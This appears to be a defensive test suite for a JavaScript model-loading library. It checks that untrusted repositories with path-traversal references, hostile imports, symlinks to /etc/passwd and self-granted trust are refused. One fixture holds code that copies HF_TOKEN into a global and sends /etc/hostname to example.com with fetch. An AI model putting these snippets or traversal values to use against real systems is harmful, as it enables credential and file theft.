// Repositories that mean harm: names that lead out of their folder in every field that names a file, links, a config that
// grants itself trust, names kernels or files elsewhere, code that is too large, native code, and code that looks around.
import { spawnSync } from "node:child_process";
import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import t from "tap";
import {
  AutoConfig,
  AutoModel,
  AutoModelForCausalLM,
  AutoTokenizer,
  inspect_repo,
  LlamaForCausalLM,
  torch,
} from "torchformers";
import { fixture, root } from "../support/fixtures.js";
import { HubServer } from "../support/hub_server.js";

const home = t.testdir();
process.env.HF_HOME = join(home, "huggingface");
process.env.TORCHFORMERS_LOG = "error";
const modules = () => join(process.env.HF_HOME as string, "modules");
const trust = { trust_remote_code: true };
/** Code that leaves a trace when it runs. */
const RUNS = "globalThis.hostileCodeRan = true;\nexport class Evil {}\nexport class EvilTokenizer {}\n";
const ran = () => (globalThis as { hostileCodeRan?: boolean }).hostileCodeRan;

const TRAVERSALS = [
  "../evil.Evil",
  "../../evil.Evil",
  "/tmp/evil.Evil",
  "sub/../../evil.Evil",
  "sub/../evil.Evil",
  "./evil.Evil",
  "..\\evil.Evil",
  "C:\\evil.Evil",
  "evil",
  "evil.Evil.more",
  "evil.js.Evil",
  ".evil.Evil",
  "node_modules/evil.Evil",
  "evil\u0000.Evil",
  "evil.constructor()",
  "file:///tmp/evil.Evil",
  "https://example.com/evil.Evil",
  "../repo--evil.Evil",
  "/etc--evil.Evil",
  "a--b--evil.Evil",
  "plainfolder--evil.Evil",
  "",
  42,
  { file: "evil" },
  "x".repeat(1000),
];

t.test("auto_map that leads out of the repository", async (t) => {
  const outside = t.testdir({ "evil.js": RUNS, repo: { sub: {}, "evil.js": RUNS, "tokenizer.json": "{}" } });
  const dir = join(outside, "repo");
  for (const reference of TRAVERSALS) {
    const auto_map = { AutoConfig: reference };
    writeFileSync(join(dir, "config.json"), JSON.stringify({ model_type: "evil", auto_map }));
    const name = JSON.stringify(reference).slice(0, 60);
    for (const options of [{}, trust])
      await t.rejects(AutoConfig.from_pretrained(dir, options), { code: "ERR_REMOTE_CODE" }, name);
    // Behind a config that is fine, and in a tokenizer.
    writeFileSync(
      join(dir, "config.json"),
      JSON.stringify({ model_type: "llama", auto_map: { AutoModelForCausalLM: reference } }),
    );
    await t.rejects(AutoModelForCausalLM.from_pretrained(dir, trust), { code: "ERR_REMOTE_CODE" }, name);
    for (const form of [
      { AutoTokenizer: [null, reference] },
      { AutoTokenizer: reference },
      [reference, null],
    ]) {
      if (reference === "" && Array.isArray(form)) continue;
      writeFileSync(join(dir, "tokenizer_config.json"), JSON.stringify({ auto_map: form }));
      await t.rejects(AutoTokenizer.from_pretrained(dir, trust), { code: "ERR_REMOTE_CODE" }, name);
    }
  }
  t.notOk(ran(), "nothing ran");
});

t.test("imports that lead out of the repository", async (t) => {
  const outside = t.testdir({ "evil.js": RUNS, repo: { inner: {} } });
  const dir = join(outside, "repo");
  writeFileSync(
    join(dir, "config.json"),
    JSON.stringify({ model_type: "evil", auto_map: { AutoConfig: "inner/evil.Evil" } }),
  );
  const imports = [
    'import "../../evil.js";',
    'export * from "../../evil.js";',
    'await import("../../evil.js");',
    'import "\\x2e\\x2e/../evil.js";',
    'import "../inner/../../evil.js";',
    `import ${JSON.stringify(join(outside, "evil.js"))};`,
    `import "file://${join(outside, "evil.js")}";`,
    'import "data:text/javascript,globalThis.hostileCodeRan = true";',
    'import "https://example.com/x.js";',
    'import "#internal";',
    'import "torchformers/../../evil.js";',
    'import "./evil.js?x=1";',
    'import "..%2fevil.js";',
    'import "./node_modules/torchformers/index.js";',
    'import "./.hidden.js";',
    'import "./addon.node";',
    'import "./code.wasm";',
    'import "./old.cjs";',
    'import "./missing.js";',
  ];
  for (const name of ["addon.node", "code.wasm", "old.cjs", ".hidden.js"])
    writeFileSync(join(dir, "inner", name), RUNS);
  for (const line of imports) {
    writeFileSync(join(dir, "inner/evil.js"), `${line}\n${RUNS}`);
    await t.rejects(AutoConfig.from_pretrained(dir, trust), { code: "ERR_REMOTE_CODE" }, line);
  }
  t.notOk(ran());
  t.notOk(existsSync(modules()), "nothing was copied");
});

t.test("links, sizes, names", async (t) => {
  const outside = t.testdir({ "evil.js": RUNS, repo: {} });
  const dir = join(outside, "repo");
  const auto_map = { AutoConfig: "evil.Evil" };
  writeFileSync(join(dir, "config.json"), JSON.stringify({ model_type: "evil", auto_map }));
  symlinkSync("../evil.js", join(dir, "evil.js"));
  await t.rejects(AutoConfig.from_pretrained(dir, trust), { message: /link that leads out/ });

  const large = t.testdir({ "config.json": JSON.stringify({ model_type: "evil", auto_map }) });
  writeFileSync(join(large, "evil.js"), `${RUNS}//${"x".repeat(5 * 2 ** 20)}`);
  await t.rejects(AutoConfig.from_pretrained(large, trust), {
    code: "ERR_REMOTE_CODE",
    message: /more than the/,
  });
  writeFileSync(join(large, "evil.js"), Buffer.from([0xff, 0xfe, 0x00]));
  await t.rejects(AutoConfig.from_pretrained(large, trust), { code: "ERR_REMOTE_CODE", message: /UTF-8/ });
  writeFileSync(join(large, "evil.js"), "export class {");
  await t.rejects(AutoConfig.from_pretrained(large, trust), { code: "ERR_REMOTE_CODE" });
  // Files without end, each importing the next.
  for (let i = 0; i < 510; i++) writeFileSync(join(large, `m${i}.js`), `import "./m${i + 1}.js";\n`);
  writeFileSync(join(large, "evil.js"), `import "./m0.js";\n${RUNS}`);
  await t.rejects(AutoConfig.from_pretrained(large, trust), {
    code: "ERR_REMOTE_CODE",
    message: /more than 500/,
  });
  t.notOk(ran());

  // A package.json of the repository says nothing about how its code runs.
  const own = t.testdir({
    "config.json": JSON.stringify({ model_type: "evil", auto_map }),
    "package.json": '{ "type": "commonjs", "imports": { "#evil": "../../evil.js" } }',
    "evil.js":
      'import { PretrainedConfig } from "torchformers";\nexport class Evil extends PretrainedConfig { static model_type = "evil"; }\n',
  });
  t.equal((await AutoConfig.from_pretrained(own, trust)).constructor.name, "Evil");
  const places = readdirSync(join(modules(), "torchformers_modules"));
  const [snapshot, ...more] = readdirSync(
    join(modules(), "torchformers_modules", places[0] as string),
  ).filter((name) => name !== "node_modules");
  t.same([places.length, more], [1, []], "nothing of what was refused is there");
  t.same(
    readdirSync(join(modules(), "torchformers_modules", places[0] as string, snapshot as string)).sort(),
    ["evil.js", "package.json"],
  );
});

t.test("a config cannot grant trust, name a kernel, or reach elsewhere", async (t) => {
  const dir = t.testdir({ "evil.js": RUNS });
  const config = {
    model_type: "evil",
    auto_map: { AutoConfig: "evil.Evil" },
    trust_remote_code: true,
    _trust_remote_code: true,
    code_revision: "main",
  };
  writeFileSync(join(dir, "config.json"), JSON.stringify(config));
  writeFileSync(
    join(dir, "tokenizer_config.json"),
    JSON.stringify({ auto_map: { AutoTokenizer: [null, "evil.EvilTokenizer"] }, trust_remote_code: true }),
  );
  cpSync(join(fixture("tokenizers/bert-uncased"), "tokenizer.json"), join(dir, "tokenizer.json"));
  for (const options of [{}, { trust_remote_code: false }, { trust_remote_code: undefined }]) {
    await t.rejects(AutoConfig.from_pretrained(dir, options), { code: "ERR_REMOTE_CODE" });
    await t.rejects(AutoModel.from_pretrained(dir, options), { code: "ERR_REMOTE_CODE" });
    t.equal((await AutoTokenizer.from_pretrained(dir, options)).constructor.name, "PreTrainedTokenizerFast");
  }

  // Fields that came to code loaders elsewhere, in a config of a model that is known.
  const llama = t.testdir();
  cpSync(fixture("models/llama"), llama, { recursive: true });
  const plain = JSON.parse(readFileSync(join(llama, "config.json"), "utf8"));
  writeFileSync(join(llama, "evil.js"), RUNS);
  const write = (more: object) =>
    writeFileSync(join(llama, "config.json"), JSON.stringify({ ...plain, ...more }));
  write({
    _attn_implementation_internal: "org/kernel",
    _experts_implementation_internal: "org/kernel",
    auto_map: { AutoConfig: "evil.Evil", AutoModelForCausalLM: "evil.Evil" },
    trust_remote_code: true,
    _name_or_path: "../elsewhere",
  });
  const model = await AutoModelForCausalLM.from_pretrained(llama);
  t.ok(model instanceof LlamaForCausalLM, "its own code is ignored: the model is known");
  t.equal(model.config._attn_implementation, "sdpa");
  t.equal(model.config.name_or_path, llama);
  for (const name of ["org/kernel", "kernels-community/flash-attn@main", "../evil.js", "/tmp/evil"]) {
    write({ attn_implementation: name });
    await t.rejects(
      AutoModelForCausalLM.from_pretrained(llama),
      { name: /Error$/, message: /attn|attention/ },
      name,
    );
  }
  for (const transformers_weights of ["../model.safetensors", "/etc/passwd", "a/../../model.safetensors"]) {
    write({ transformers_weights });
    await t.rejects(
      AutoModelForCausalLM.from_pretrained(llama),
      { code: /ERR_(INVALID_ARGUMENT|CHECKPOINT|ENTRY_NOT_FOUND)/ },
      transformers_weights,
    );
  }
  write({ configuration_files: ["config.5.0.0.json/../../x.json", "config.4.0.0.json"] });
  await t.rejects(AutoConfig.from_pretrained(llama), { code: "ERR_ENTRY_NOT_FOUND" });
  write({});
  for (const place of ["../model.safetensors", "/etc/passwd", "..\\model.safetensors"]) {
    const sharded = t.testdir();
    cpSync(fixture("models/llama-sharded"), sharded, { recursive: true });
    const index = join(sharded, "model.safetensors.index.json");
    const content = JSON.parse(readFileSync(index, "utf8"));
    content.weight_map[Object.keys(content.weight_map)[0] as string] = place;
    writeFileSync(index, JSON.stringify(content));
    await t.rejects(AutoModelForCausalLM.from_pretrained(sharded), { name: /Error$/ }, place);
  }
  t.notOk(ran());
});

t.test(
  "code that looks around runs only when it is trusted, and inspection shows what it does",
  async (t) => {
    const code = [
      'import { readFileSync } from "node:fs";',
      'import { PretrainedConfig } from "torchformers";',
      "globalThis.stolen = process.env.HF_TOKEN;",
      'export const steal = () => fetch("https://example.com", { body: readFileSync("/etc/hostname") });',
      'export const later = (name) => import(name) && eval("1");',
      'export class Looks extends PretrainedConfig { static model_type = "looks"; }',
    ].join("\n");
    const hub = await new HubServer().start();
    t.teardown(() => hub.stop());
    process.env.HF_ENDPOINT = hub.url;
    process.env.HF_TOKEN = "hf_testtoken";
    hub.create("org/looks");
    const commit = hub.commit("org/looks", {
      "config.json": JSON.stringify({ model_type: "looks", auto_map: { AutoConfig: "looks.Looks" } }),
      "looks.js": code,
      "setup.py": "import os, sys\nfrom torch.nn import Module\n",
      "addon.node": "ELF",
      "pytorch_model.bin": "PK",
      "huge.js": `export const x = "${"x".repeat(5 * 2 ** 20)}";`,
    });
    const stolen = () => (globalThis as { stolen?: string }).stolen;
    await t.rejects(AutoConfig.from_pretrained("org/looks"), { code: "ERR_REMOTE_CODE" });
    t.equal(stolen(), undefined);

    hub.scans = { scansDone: true, filesWithIssues: [{ path: "pytorch_model.bin", level: "unsafe" }] };
    hub.verdicts.set("pytorch_model.bin", {
      status: "unsafe",
      pickleImportScan: { pickleImports: [{ module: "posix", name: "system", safety: "dangerous" }] },
    });
    hub.verdicts.set("looks.js", { status: "safe" });
    const before = hub.seen.length;
    const found = await inspect_repo("org/looks");
    const bytes = hub.seen.slice(before).reduce((sum, { bytes }) => sum + bytes, 0);
    t.ok(bytes < 2 ** 20, "huge files are not downloaded");
    t.match(found, {
      source: "org/looks",
      commit,
      auto_map: { "config.json": { AutoConfig: "looks.Looks" } },
      native: [{ path: "addon.node" }],
      pickles: [{ path: "pytorch_model.bin", verdict: "unsafe", imports: ["posix.system (dangerous)"] }],
      scans: { done: true, issues: [{ path: "pytorch_model.bin", level: "unsafe" }] },
    });
    t.match(Object.fromEntries(found.code.map((file) => [file.path, file])), {
      "looks.js": {
        imports: ["node:fs", "torchformers", "import(…)"],
        reaches: ["process.env", "eval", "network", "globalThis"],
        verdict: "safe",
        sha256: /^[0-9a-f]{64}$/,
      },
      "setup.py": { imports: ["os", "sys", "torch.nn"], note: /Python/ },
      "huge.js": { note: /more than the/ },
    });
    t.equal(stolen(), undefined, "inspecting runs nothing");

    const cli = (...args: string[]) => {
      const { status, stdout, stderr } = spawnSync(
        process.execPath,
        [join(root, "dist/cli/main.js"), "inspect", ...args],
        { encoding: "utf8", env: { ...process.env } },
      );
      return { status, stdout, stderr };
    };
    // The hub answers in this process, which a synchronous child would block: a folder for the command line.
    const folder = t.testdir({
      "looks.js": code,
      "config.json": '{"auto_map":{"AutoConfig":"looks.Looks"}}',
    });
    mkdirSync(join(folder, "sub"));
    writeFileSync(join(folder, "sub/weights.pkl"), "x");
    symlinkSync("/etc/passwd", join(folder, "link.js"));
    const printed = cli(folder);
    t.equal(printed.status, 0, printed.stderr);
    t.match(printed.stdout, /AutoConfig: "looks\.Looks" \(config\.json\)/);
    t.match(
      printed.stdout,
      /looks\.js[\s\S]*sha256[\s\S]*imports node:fs, torchformers[\s\S]*reaches process\.env/,
    );
    t.match(printed.stdout, /Pickles: 1 files[\s\S]*sub\/weights\.pkl/);
    t.match(printed.stdout, /Links: link\.js/);
    t.notMatch(printed.stdout, /root:/, "what a link leads to is not read");
    const json = JSON.parse(cli(folder, "--json").stdout);
    t.match(json, { code: [{ path: "link.js", note: /link that leads out/ }, { path: "looks.js" }] });

    await AutoConfig.from_pretrained("org/looks", { ...trust, revision: commit });
    t.equal(stolen(), "hf_testtoken", "trusted code can do what the program can: that is what trust means");
    t.ok(torch.ones([1]));
  },
);
